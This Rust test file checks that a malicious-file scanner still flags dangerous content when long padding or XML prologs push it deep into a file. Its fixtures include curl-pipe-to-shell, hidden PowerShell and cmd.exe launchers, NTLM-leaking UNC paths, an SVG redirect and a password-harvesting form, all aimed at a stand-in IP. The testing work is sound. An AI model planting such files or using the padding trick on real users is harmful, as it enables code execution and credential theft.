//! Whatever stands in front, however long it is: the programs that open these files read on, and so does a scan, or it says
//! where it ended.

use sekisho::engine::Worker;

use crate::bench::{engine, scan};

/// More than any part of a file that is read by itself.
const PADDING: usize = 9 << 20;

/// A file: name, what it begins with, what is repeated, what acts, and the id that tells it.
type Case = (
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    &'static str,
);

const CASES: &[Case] = &[
    (
        "a.url",
        "",
        "; words of nothing\r\n",
        "[InternetShortcut]\r\nURL=file://203.0.113.5/a/b.exe\r\n",
        "internet-shortcut",
    ),
    (
        "a.scf",
        "",
        "; words of nothing\r\n",
        "[Shell]\r\nCommand=2\r\nIconFile=\\\\203.0.113.5\\a\r\n",
        "internet-shortcut",
    ),
    (
        "a.theme",
        "[Theme]\r\nDisplayName=x\r\n",
        "; words of nothing\r\n",
        "[Control Panel\\Desktop]\r\nWallpaper=\\\\203.0.113.5\\a\\b.jpg\r\n",
        "internet-shortcut",
    ),
    (
        "a.desktop",
        "[Desktop Entry]\nType=Application\n",
        "# words of nothing\n",
        "Exec=sh -c \"curl http://203.0.113.5/a | sh\"\n",
        "script",
    ),
    (
        "a.rdp",
        "screen mode id:i:2\r\n",
        "session bpp:i:32\r\n",
        "full address:s:203.0.113.5\r\nremoteapplicationprogram:s:a.exe\r\n",
        "remote-desktop-file",
    ),
    (
        "a.settingcontent-ms",
        "<?xml version=\"1.0\"?><PCSettings>",
        "<a b=\"c\"/>",
        "<SearchableContent xmlns=\"http://schemas.microsoft.com/Search/2013/SettingContent\"><ApplicationInformation><DeepLink>%windir%\\system32\\cmd.exe /c a.bat</DeepLink></ApplicationInformation></SearchableContent></PCSettings>",
        "settingcontent-command",
    ),
    (
        "a.library-ms",
        "<?xml version=\"1.0\"?><libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\">",
        "<a b=\"c\"/>",
        "<searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\\\203.0.113.5\\a</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>",
        "search-connector",
    ),
    (
        "a.msc",
        "<?xml version=\"1.0\"?><MMC_ConsoleFile>",
        "<a b=\"c\"/>",
        "<StringTables><StringTable><Strings><String ID=\"1\">res://apds.dll/redirect.html?target=javascript:eval(x)</String></Strings></StringTable></StringTables></MMC_ConsoleFile>",
        "msc-console",
    ),
    (
        "a.wsb",
        "<Configuration>",
        "<a b=\"c\"/>",
        "<LogonCommand><Command>cmd.exe /c a.bat</Command></LogonCommand></Configuration>",
        "script",
    ),
    (
        "a.svg",
        "<svg xmlns=\"http://www.w3.org/2000/svg\">",
        "<g/>",
        "<script>location=\"http://203.0.113.5/\"</script></svg>",
        "svg-script",
    ),
    (
        "a.html",
        "<html><body>",
        "<p>",
        "<form action=\"http://203.0.113.5/p\" method=post>Sign in<input type=email><input type=password name=p></form>",
        "credential-form",
    ),
    (
        "b.html",
        "<html><body>",
        "<!-- words of nothing -->",
        "<meta http-equiv=refresh content=\"0;url=http://203.0.113.5/x\">",
        "html-script",
    ),
    (
        "a.csproj",
        "<Project>",
        "<!-- words of nothing -->",
        "<Target Name=\"a\"><Exec Command=\"powershell -w hidden -c a\"/></Target></Project>",
        "msbuild-build-event",
    ),
    (
        "a.appinstaller",
        "<?xml version=\"1.0\"?><AppInstaller Uri=\"http://203.0.113.5/a\">",
        "<a b=\"c\"/>",
        "<MainPackage Uri=\"http://203.0.113.5/a.msix\"/></AppInstaller>",
        "installer",
    ),
    (
        "a.odc",
        "<html xmlns:odc=\"urn:schemas-microsoft-com:office:odc\"><head>",
        "<a b=\"c\"/>",
        "<xml><odc:OfficeDataConnection><odc:Connection odc:Type=\"OLEDB\"><odc:ConnectionString>Provider=SQLOLEDB;Data Source=203.0.113.5</odc:ConnectionString></odc:Connection></odc:OfficeDataConnection></xml></head></html>",
        "web-query",
    ),
];

/// What may stand in front of the first element of markup, and is longer than a head.
fn prologs() -> [String; 4] {
    [
        "<!-- a -->".repeat(100),
        format!("<!-- {}-->", "words of nothing ".repeat(8000)),
        format!("<?a {}?>", "words of nothing ".repeat(8000)),
        format!("<!DOCTYPE a [{}]>", "<!-- ]> -->".repeat(8000)),
    ]
}

#[test]
fn whatever_stands_in_front_of_the_first_element_is_passed_over() {
    let engine = engine();
    let mut worker = Worker::new(&engine);
    let mut bad = Vec::new();
    let cases = CASES.iter().filter(|case| case.1.starts_with('<'));
    for (name, head, _, acts, id) in cases {
        let declared = head.find("?>").map_or(0, |end| end + 2);
        let (declaration, head) = head.split_at(declared);
        for prolog in prologs() {
            let file = [declaration, &prolog, head, acts].concat();
            let report = scan(&mut worker, name, file.into_bytes());
            if !report.findings.iter().any(|finding| finding.id == *id) {
                let start = prolog.get(..8).unwrap_or_default();
                let kind = &report.artifacts[0].kind;
                bad.push(format!("{name} behind {start}: a {kind:?} without {id}"));
            }
        }
    }
    assert!(bad.is_empty(), "{}", bad.join("\n"));
}

#[test]
fn what_acts_is_found_behind_any_padding() {
    let engine = engine();
    let mut worker = Worker::new(&engine);
    let mut bad = Vec::new();
    for (name, head, padding, acts, id) in CASES {
        for times in [0, PADDING / padding.len()] {
            let file = [*head, padding.repeat(times).as_str(), acts].concat();
            let report = scan(&mut worker, name, file.into_bytes());
            let tells = |told: &str| told == *id || times > 0 && told == "limit-exceeded";
            if !report.findings.iter().any(|finding| tells(&finding.id)) {
                let found: Vec<_> = report.findings.iter().map(|one| &one.id).collect();
                bad.push(format!(
                    "{name}, {times} times: {id} is missing in {found:?}"
                ));
            }
        }
        // What stands in front alone is nothing, unless such a file is always told.
        if *id == "installer" {
            continue;
        }
        let report = scan(&mut worker, name, [*head, *padding].concat().into_bytes());
        if report.findings.iter().any(|finding| finding.id == *id) {
            bad.push(format!("{name}: {id} without a cause"));
        }
    }
    assert!(bad.is_empty(), "{}", bad.join("\n"));
}
